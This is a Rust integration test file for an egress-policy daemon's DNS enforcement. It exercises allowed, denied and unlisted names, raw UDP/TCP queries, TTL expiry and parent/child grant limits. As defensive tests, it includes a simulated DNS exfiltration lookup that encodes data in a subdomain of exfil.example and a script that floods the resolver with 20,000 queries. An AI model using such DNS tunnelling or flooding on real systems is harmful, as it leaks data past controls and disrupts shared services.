//! Names in policies and the sessions' resolver: a real DNS server (dnsmasq) on loopback as the
//! upstream, real resolvers inside sessions (glibc through Python, and raw queries over UDP and
//! TCP to other servers), listeners that show which connects got through, and dnsmasq's own
//! query log for what left the resolver.

use harness::dnsmasq::Dnsmasq;
use harness::enforcement::BUILD_BOTS_IDENTITY;
use harness::net::Listener;
use harness::proxy::BUILD_BOTS;
use harness::session_log::{events_of_kind, pretty};
use harness::{Daemon, RunOutput};

/// A resolver client for sessions: `resolve NAME` (glibc), `connect ADDR PORT`, and
/// `ask SERVER PORT udp|tcp NAME` (a raw A query to any server). One line per step.
const CLIENT: &str = r#"
import socket, struct, sys

def connect(addr, port):
    try:
        socket.create_connection((addr, int(port)), timeout=3).close()
        return "ok"
    except OSError as e:
        return "errno=%d" % e.errno

def resolve(name):
    try:
        return socket.gethostbyname(name)
    except OSError as e:
        return "unresolved"

def ask(server, port, transport, name):
    query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        query += bytes([len(label)]) + label.encode()
    query += b"\0" + struct.pack(">HH", 1, 1)
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    if transport == "udp":
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(query, (server, int(port)))
        answer, source = s.recvfrom(4096)
    else:
        s = socket.create_connection((server, int(port)), timeout=5)
        s.sendall(struct.pack(">H", len(query)) + query)
        length = struct.unpack(">H", s.recv(2))[0]
        answer = b""
        while len(answer) < length:
            answer += s.recv(length - len(answer))
        source = (server, int(port))
    rcode = answer[3] & 0x0F
    count = struct.unpack(">H", answer[6:8])[0]
    at = 12
    while answer[at] != 0:
        at += answer[at] + 1
    at += 5
    addresses = []
    for _ in range(count):
        at += 2
        kind, _, _, length = struct.unpack(">HHIH", answer[at:at + 10])
        at += 10
        if kind == 1:
            addresses.append(socket.inet_ntoa(answer[at:at + length]))
        at += length
    return "rcode=%d from=%s %s" % (rcode, source[0], ",".join(addresses))

steps = sys.argv[1:]
while steps:
    step = steps.pop(0)
    if step == "resolve":
        print(resolve(steps.pop(0)))
    elif step == "connect":
        print(connect(steps.pop(0), steps.pop(0)))
    elif step == "ask":
        print(ask(steps.pop(0), steps.pop(0), steps.pop(0), steps.pop(0)))
    elif step == "sleep":
        import time
        time.sleep(float(steps.pop(0)))
    sys.stdout.flush()
"#;

struct World {
    daemon: Daemon,
    dns: Dnsmasq,
    token: std::path::PathBuf,
    /// 127.0.0.2: allowed.test.
    allowed: Listener,
    /// 127.0.0.3: other.test (no rule) and target.test (behind x.wild.test).
    other: Listener,
    /// 127.0.0.4: denied.test, under a wide address allow.
    denied: Listener,
}

impl World {
    fn start(ttl: u32, config: &[&str]) -> World {
        let dns = Dnsmasq::start(
            &[
                ("allowed.test", "127.0.0.2"),
                ("other.test", "127.0.0.3"),
                ("target.test", "127.0.0.3"),
                ("denied.test", "127.0.0.4"),
            ],
            &[("x.wild.test", "target.test")],
            ttl,
        );
        let (allowed, other, denied) =
            (Listener::bind("127.0.0.2"), Listener::bind("127.0.0.3"), Listener::bind("127.0.0.4"));
        let policy = format!(
            r#"{BUILD_BOTS_IDENTITY}grants:
  - name: build-egress
    identity: build-bots
    network:
      allow: ["allowed.test:{}", "*.wild.test", "127.0.0.4/32"]
      deny: ["denied.test"]
"#,
            allowed.port()
        );
        let mut builder = Daemon::builder()
            .policy(&policy)
            .config_line(&format!("dns:\n  upstream: [\"127.0.0.1:{}\"]\n  min_ttl: 2s", dns.port));
        for line in config {
            builder = builder.config_line(line);
        }
        let daemon = builder.start();
        let token = daemon.mint("egress-bot", BUILD_BOTS);
        World { daemon, dns, token, allowed, other, denied }
    }

    fn client(&self, steps: &[String]) -> (RunOutput, Vec<String>) {
        let mut argv = vec!["python3".to_owned(), "-c".to_owned(), CLIENT.to_owned()];
        argv.extend(steps.iter().cloned());
        let out = self.daemon.run(&self.token, &argv);
        let lines = out.stdout.lines().map(str::to_owned).collect();
        (out, lines)
    }
}

fn steps(text: &str) -> Vec<String> {
    text.split_whitespace().map(str::to_owned).collect()
}

#[test]
fn allowed_names_open_their_addresses_and_nothing_else_resolves_or_connects() {
    let w = World::start(60, &[]);
    let (a, o, d) = (w.allowed.port(), w.other.port(), w.denied.port());
    let (out, lines) = w.client(&steps(&format!(
        "resolve allowed.test connect 127.0.0.2 {a} connect 127.0.0.3 {o} resolve other.test \
         connect 127.0.0.4 {d} resolve denied.test connect 127.0.0.4 {d} \
         resolve aGVsbG8gZnJvbSB0aGUgc2Vzc2lvbg.exfil.example"
    )));
    assert_eq!(
        lines,
        ["127.0.0.2", "ok", "errno=1", "unresolved", "ok", "127.0.0.4", "errno=1", "unresolved"],
        "{out}"
    );
    // The receiving side: one connection each where one got through.
    assert_eq!((w.allowed.take_connections(), w.other.take_connections(), w.denied.take_connections()), (1, 0, 1));
    // What left the resolver: never a name no rule could allow.
    let queries = w.dns.queries();
    assert!(queries.contains("allowed.test") && queries.contains("denied.test"), "{queries}");
    assert!(!queries.contains("other.test") && !queries.contains("exfil.example"), "{queries}");

    let id = w.daemon.last_session_id();
    let show = w.daemon.show_until(&id, "the queries' records", |show| events_of_kind(show, "dns").len() >= 4);
    let dns = events_of_kind(&show, "dns");
    let record = |name: &str| {
        dns.iter().find(|e| e["name"] == name).unwrap_or_else(|| panic!("no record of {name}:\n{}", pretty(&show)))
    };
    assert_eq!(record("allowed.test")["outcome"], "allowed", "{}", pretty(&show));
    assert_eq!(record("allowed.test")["answers"][0], "127.0.0.2", "{}", pretty(&show));
    assert!(record("allowed.test")["rule"].as_str().is_some_and(|r| r.contains("network.allow allowed.test")));
    assert_eq!(record("other.test")["outcome"], "refused", "{}", pretty(&show));
    assert_eq!(record("denied.test")["outcome"], "denied", "{}", pretty(&show));
    let connects = events_of_kind(&show, "connect");
    let through = connects
        .iter()
        .find(|e| e["addr"] == "127.0.0.2" && e["verdict"] == "allow")
        .unwrap_or_else(|| panic!("no connect to 127.0.0.2:\n{}", pretty(&show)));
    assert!(through["rule"].as_str().is_some_and(|r| r.contains("allowed.test")), "{}", pretty(through));
    let replay = w.daemon.tollgate(&["replay", &id, "--instant", "--only", "network"]);
    assert!(replay.stdout.contains("allowed.test -> allowed [127.0.0.2]"), "{replay}");
}

#[test]
fn any_server_over_udp_or_tcp_and_either_family_reaches_the_resolver_only() {
    let w = World::start(60, &[]);
    let o = w.other.port();
    let (out, lines) = w.client(&steps(&format!(
        "ask 192.0.2.53 53 udp allowed.test ask 192.0.2.53 53 tcp allowed.test ask 192.0.2.53 53 tcp other.test \
         ask ::1 53 udp allowed.test ask 127.0.0.1 53 udp x.wild.test connect 127.0.0.3 {o}"
    )));
    assert_eq!(
        lines,
        [
            "rcode=0 from=192.0.2.53 127.0.0.2",
            "rcode=0 from=192.0.2.53 127.0.0.2",
            "rcode=5 from=192.0.2.53 ",
            "rcode=0 from=::1 127.0.0.2",
            "rcode=0 from=127.0.0.1 127.0.0.3",
            "ok",
        ],
        "answers come from the server asked, and a CNAME's target opens for the name asked:\n{out}"
    );
    assert_eq!(w.other.take_connections(), 1);
    assert!(!w.dns.queries().contains("other.test"), "{}", w.dns.queries());
}

#[test]
fn an_answered_address_closes_again_after_its_ttl_and_the_floor() {
    let w = World::start(1, &[]);
    let a = w.allowed.port();
    let (out, lines) =
        w.client(&steps(&format!("resolve allowed.test connect 127.0.0.2 {a} sleep 5 connect 127.0.0.2 {a}")));
    assert_eq!(lines, ["127.0.0.2", "ok", "errno=1"], "{out}");
    assert_eq!(w.allowed.take_connections(), 1);
}

#[test]
fn explain_names_the_rule_a_name_meets() {
    let w = World::start(60, &[]);
    let to = format!("allowed.test:{}", w.allowed.port());
    let out = w.daemon.tollgate(&["policy", "explain", "--identity", "build-bots", "--to", &to]);
    assert!(out.stdout.contains("network.allow allowed.test"), "{out}");
    assert!(out.stdout.contains("127.0.0.2"), "what it resolves to now: {out}");
    let denied = w.daemon.tollgate(&["policy", "explain", "--identity", "build-bots", "--to", "denied.test:80"]);
    assert!(denied.stdout.contains("deny") && denied.stdout.contains("network.deny denied.test"), "{denied}");
    let other = w.daemon.tollgate(&["policy", "explain", "--identity", "build-bots", "--to", "other.test:80"]);
    assert!(other.stdout.contains("refused"), "{other}");
}

/// Floods the resolver from one session (many queries sent, none awaited), then resolves.
const FLOOD: &str = r#"
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(int(sys.argv[1])):
    query = struct.pack(">HHHHHH", i & 0xFFFF, 0x0100, 1, 0, 0, 0)
    for label in ("flood%d" % i, "exfil", "example"):
        query += bytes([len(label)]) + label.encode()
    query += b"\0" + struct.pack(">HH", 1, 1)
    s.sendto(query, ("127.0.0.1", 53))
print(socket.gethostbyname("allowed.test"))
"#;

#[test]
fn a_session_flooding_its_resolver_does_not_stop_others_resolving() {
    let w = World::start(60, &[]);
    let flood = w.daemon.run(&w.token, &["python3", "-c", FLOOD, "20000"]);
    assert_eq!(flood.stdout.trim(), "127.0.0.2", "the flooding session itself still resolves: {flood}");
    let a = w.allowed.port();
    let (out, lines) = w.client(&steps(&format!("resolve allowed.test connect 127.0.0.2 {a}")));
    assert_eq!(lines, ["127.0.0.2", "ok"], "{out}");
    assert!(!w.dns.queries().contains("flood"), "no flooded name was forwarded");
    let status = w.daemon.status();
    assert_eq!(status["sessions_active"], 0, "{status}");
}

#[test]
fn suggest_keeps_the_name_that_let_a_connect_through() {
    let w = World::start(60, &[harness::proxy::REVIEWERS]);
    let a = w.allowed.port();
    let (out, lines) = w.client(&steps(&format!("resolve allowed.test connect 127.0.0.2 {a}")));
    assert_eq!(lines, ["127.0.0.2", "ok"], "{out}");
    let id = w.daemon.last_session_id();
    w.daemon.show_until(&id, "the session's end", |s| !s["session"]["ended_at"].is_null());
    let suggest = w.daemon.tollgate(&["review", "--suggest", "--identity", "build-bots"]);
    assert!(suggest.success(), "{suggest}");
    assert!(suggest.stdout.contains(&format!("allowed.test:{a}")), "the name, not its address:\n{suggest}");
    assert!(!suggest.stdout.contains("127.0.0.2/32"), "{suggest}");
    let file = w.daemon.dir().join("suggested.yaml");
    std::fs::write(&file, &suggest.stdout).expect("writing the suggestion");
    let check = w.daemon.tollgate(&["policy", "check", file.to_str().expect("utf-8")]);
    assert!(check.success(), "the suggestion loads as printed:\n{}\n{check}", suggest.stdout);
}

/// A child's name rule never opens what its parent does not allow: under a parent that allows
/// every IPv6 address and no IPv4 one, a child whose own grant allows `allowed.test` resolves it,
/// but its IPv4 answer stays closed (the listener gets nothing), while a parent that allows the
/// name too lets the child through.
#[test]
fn a_childs_name_rule_opens_no_address_its_parent_does_not_allow() {
    let dns = Dnsmasq::start(&[("allowed.test", "127.0.0.2")], &[], 60);
    let allowed = Listener::bind("127.0.0.2");
    let a = allowed.port();
    let policy = format!(
        r#"identities:
  - name: lead-bots
    issuer: tollgate-dev
    allow_root: true
    claims: {{ repository_owner: acme }}
  - name: helper-bots
    issuer: tollgate-dev
    allow_root: true
    claims: {{ repository_owner: helpers }}
grants:
  - name: lead-v6-only
    identity: lead-bots
    network:
      allow: ["::/0"]
  - name: helper-named
    identity: helper-bots
    network:
      allow: ["allowed.test:{a}", "0.0.0.0/0", "::/0"]
"#
    );
    let daemon = Daemon::builder()
        .policy(&policy)
        .config_line(&format!("dns:\n  upstream: [\"127.0.0.1:{}\"]", dns.port))
        .start();
    let lead = daemon.mint("lead", BUILD_BOTS);
    let helper = daemon.mint("helper", &[("repository_owner", "helpers")]);
    let inner =
        r#"bin=$1; socket=$2; token=$3; shift 3; exec "$bin" --socket "$socket" run --token-file "$token" -- "$@""#;
    let mut argv = vec![
        "/bin/sh".to_owned(),
        "-c".into(),
        inner.into(),
        "child".into(),
        harness::tollgate_bin().display().to_string(),
        daemon.socket().display().to_string(),
        helper.display().to_string(),
        "python3".into(),
        "-c".into(),
        CLIENT.into(),
    ];
    argv.extend(steps(&format!("resolve allowed.test connect 127.0.0.2 {a}")));
    let out = daemon.run(&lead, &argv);
    assert_eq!(out.stdout.lines().collect::<Vec<_>>(), ["127.0.0.2", "errno=1"], "{out}");
    assert_eq!(allowed.take_connections(), 0, "the child reached an IPv4 address its parent allows none of");
    // The helper alone, at the top: its own name rule opens the answer.
    let out = daemon.run(
        &helper,
        &[
            "python3".to_owned(),
            "-c".into(),
            CLIENT.into(),
            "resolve".into(),
            "allowed.test".into(),
            "connect".into(),
            "127.0.0.2".into(),
            a.to_string(),
        ],
    );
    assert_eq!(out.stdout.lines().collect::<Vec<_>>(), ["127.0.0.2", "ok"], "{out}");
    assert_eq!(allowed.take_connections(), 1);
}
